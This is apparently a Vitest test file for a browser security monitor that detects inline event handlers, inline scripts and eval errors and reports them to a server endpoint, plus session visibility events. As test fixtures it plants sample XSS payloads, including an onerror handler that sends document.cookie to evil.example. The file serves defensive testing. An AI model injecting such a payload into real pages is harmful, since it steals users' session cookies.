// @vitest-environment happy-dom
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { resetSecurityReports, startSecurityMonitor, startSessionEvents } from './security-events';

type Sent = Record<string, unknown>;

function sentBodies(fetchMock: ReturnType<typeof vi.fn>): Sent[] {
  return fetchMock.mock.calls.map(([, init]) => JSON.parse(String((init as RequestInit).body)) as Sent);
}

const flush = () => new Promise((resolve) => setTimeout(resolve, 0));

describe('security monitor', () => {
  let fetchMock: ReturnType<typeof vi.fn>;
  let stop: () => void = () => undefined;

  beforeEach(() => {
    resetSecurityReports();
    fetchMock = vi.fn(() => Promise.resolve(new Response(null, { status: 204 })));
    vi.stubGlobal('fetch', fetchMock);
    stop = startSecurityMonitor(document.body);
  });

  afterEach(() => {
    stop();
    document.body.innerHTML = '';
    vi.unstubAllGlobals();
  });

  it('reports an added element with an inline handler: the attribute and the first 100 characters', async () => {
    const img = document.createElement('img');
    img.setAttribute('onerror', `fetch('https://evil.example/'+document.cookie)${'x'.repeat(300)}`);
    document.body.append(img);
    await flush();
    const [event] = sentBodies(fetchMock);
    expect(event).toMatchObject({ type: 'suspicious_attribute_detected', attribute: 'onerror', tagName: 'img' });
    expect(String(event!.value)).toHaveLength(100);
    expect(event!.url).toBe(location.href);
    expect(typeof event!.timestamp).toBe('string');
    expect(fetchMock.mock.calls[0]![0]).toBe('/api/security/events');
  });

  it('reports an inline script added inside another element, cut to 100 characters', async () => {
    const wrapper = document.createElement('div');
    const script = document.createElement('script');
    script.type = 'text/plain'; // Never executed by the test, still an inline script to the monitor.
    script.textContent = `alert(1);${'y'.repeat(200)}`;
    wrapper.append(script);
    document.body.append(wrapper);
    await flush();
    const events = sentBodies(fetchMock);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ type: 'inline_script_detected' });
    expect(String(events[0]!.content)).toBe(`alert(1);${'y'.repeat(91)}`);
  });

  it('reports an error that mentions eval, and ignores ordinary errors', async () => {
    window.dispatchEvent(new ErrorEvent('error', { message: 'TypeError: x is undefined' }));
    window.dispatchEvent(
      new ErrorEvent('error', {
        message: 'EvalError: eval is not allowed',
        filename: '/assets/a.js',
        lineno: 3,
        colno: 7,
      }),
    );
    await flush();
    expect(sentBodies(fetchMock)).toEqual([
      expect.objectContaining({
        type: 'potential_xss_detected',
        message: 'EvalError: eval is not allowed',
        file: '/assets/a.js',
        line: 3,
        column: 7,
      }),
    ]);
  });

  it('leaves ordinary markup alone and reports the same finding once', async () => {
    const button = document.createElement('button');
    button.textContent = 'Log set';
    document.body.append(button);
    await flush();
    expect(fetchMock).not.toHaveBeenCalled();
    for (let i = 0; i < 3; i++) {
      const img = document.createElement('img');
      img.setAttribute('onload', 'steal()');
      document.body.append(img);
    }
    await flush();
    expect(fetchMock).toHaveBeenCalledTimes(1);
  });
});

describe('session events', () => {
  afterEach(() => vi.unstubAllGlobals());

  it('sends backgrounded when the page is hidden and ended when it is closed, as JSON that outlives the page', () => {
    const fetchMock = vi.fn((_url: string, _init: RequestInit) => Promise.resolve(new Response(null, { status: 204 })));
    vi.stubGlobal('fetch', fetchMock);
    const stop = startSessionEvents();
    Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
    document.dispatchEvent(new Event('visibilitychange'));
    window.dispatchEvent(new Event('pagehide'));
    stop();
    window.dispatchEvent(new Event('pagehide'));
    expect(fetchMock.mock.calls.map(([url]) => url)).toEqual(['/api/security/events', '/api/security/events']);
    for (const [, init] of fetchMock.mock.calls) {
      expect(init).toMatchObject({ method: 'POST', keepalive: true, headers: { 'Content-Type': 'application/json' } });
    }
    expect(sentBodies(fetchMock).map((b) => [b.type, b.event])).toEqual([
      ['session_event', 'backgrounded'],
      ['session_event', 'ended'],
    ]);
  });
});
